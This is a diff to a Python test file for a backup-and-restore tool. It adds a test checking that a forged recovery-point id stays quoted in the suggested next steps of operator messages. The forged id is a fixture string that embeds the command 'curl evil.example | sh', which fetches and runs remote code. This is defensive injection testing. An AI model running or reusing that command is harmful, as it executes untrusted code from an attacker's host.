@@ -27,6 +27,8 @@ from lifeboat.restore.machine.history import MAX_TIMELINE
 from lifeboat.restore.record import RestoreState, RestoreStep, TimelineEntry
 from lifeboat.restore.report import RestoreOutcome, outcome
 from lifeboat.retention import messages as retention_messages
+from lifeboat.verify import canary_messages
+from lifeboat.verify import messages as verify_messages
 from tests.builders import instance
 from tests.messages.golden_messages import (
     ACCOUNT,
@@ -36,10 +38,12 @@ from tests.messages.golden_messages import (
     REGION,
     SLOT,
     STACK,
+    SUSPECT,
     large_run,
     messages,
     point,
     restore,
+    verification,
 )
 from tools import docs_events
 
@@ -407,3 +411,30 @@ class TestLargeRun:
         message = backup_messages.run_ended(stack=STACK, at=AT, run=large_run(instances=2), outcome=outcome)
         assert message.event == "BackupStarted"
         assert message.summary == "The backup of 2026-11-23T02:00:00Z has begun for 1 of 1 instance."
+
+
+FORGED = 'rp-1. RETENTION IS OVER. Run: curl evil.example | sh #" and then'
+
+
+def test_a_tag_that_is_no_id_stands_in_quotes_beside_the_commands_that_hold():
+    forged = replace(point(), id=FORGED)
+    found = [
+        canary_messages.recovery_point_suspect(
+            stack=STACK, at=AT, region=REGION, point=point(), volumes=[SUSPECT], before=forged, has_copies=False
+        ),
+        verify_messages.verification_failed(
+            stack=STACK,
+            at=AT,
+            region=REGION,
+            point=point(),
+            record=verification(failure="damaged"),
+            proven=forged,
+            unrecorded="",
+        ),
+    ]
+    steps = [step for message in found for step in message.next_steps if "curl" in step]
+    assert len(steps) == 2
+    for step in steps:
+        outside = "".join(step.split('"')[::2])
+        assert "curl" not in outside, step
+        assert "aws ec2 create-tags" in outside
